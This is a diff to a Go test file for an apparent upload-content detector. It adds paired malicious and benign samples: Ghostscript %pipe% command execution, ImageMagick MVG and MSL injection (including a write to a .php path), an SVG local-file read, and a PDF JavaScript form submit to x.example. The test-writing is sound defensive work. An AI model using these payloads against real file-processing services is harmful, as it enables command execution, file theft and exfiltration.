@@ -14,6 +14,12 @@ func FuzzJudge(f *testing.F)      { language.Fuzz(f) }
 func BenchmarkJudge(b *testing.B) { language.Benchmark(b) }
 
 var rows = []languagetest.Row{
+	{Shows: "PostScript that starts a program", Attack: "%!PS\n(%pipe%uname) (w) file\n", Twin: "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(hello) show\n"},
+	{Shows: "PostScript that reads a file", Attack: "%!PS\n(/etc/hostname) (r) file\n", Twin: "%!PS\n(a) (b) show\n"},
+	{Shows: "drawing of ImageMagick with a reference", Attack: "push graphic-context\nviewbox 0 0 9 9\nfill 'url(https://x.example/a\"|ls \")'\npop graphic-context\n", Twin: "push graphic-context\nviewbox 0 0 9 9\nfill 'rgb(1,2,3)'\npop graphic-context\n"},
+	{Shows: "script of ImageMagick", Attack: `<image><read filename="caption:x"/><write filename="/srv/www/q.php"/></image>`, Twin: `<image><url>https://x.example/a.png</url></image>`},
+	{Shows: "drawing that includes a file", Attack: `<svg><image xlink:href="text:/etc/hostname"/></svg>`, Twin: `<svg><image xlink:href="data:image/png;base64,AA"/></svg>`},
+	{Shows: "PDF that sends something", Attack: "%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(this.submitForm(\"http://x.example\"))>>>>\nendobj", Twin: "%PDF-1.4\n1 0 obj<</Type/Catalog/JS(app.alert(1))>>\nendobj"},
 	{Shows: "PHP", Attack: "shell.php", Twin: "report.final.pdf", Name: "filename", IsName: true},
 	{Shows: "any case", Attack: "shell.pHtMl", Twin: "photo.tar.gz", Name: "filename", IsName: true},
 	{Shows: "JSP", Attack: "x.jsp", Twin: "x.js", Name: "filename", IsName: true, Suspicious: true},
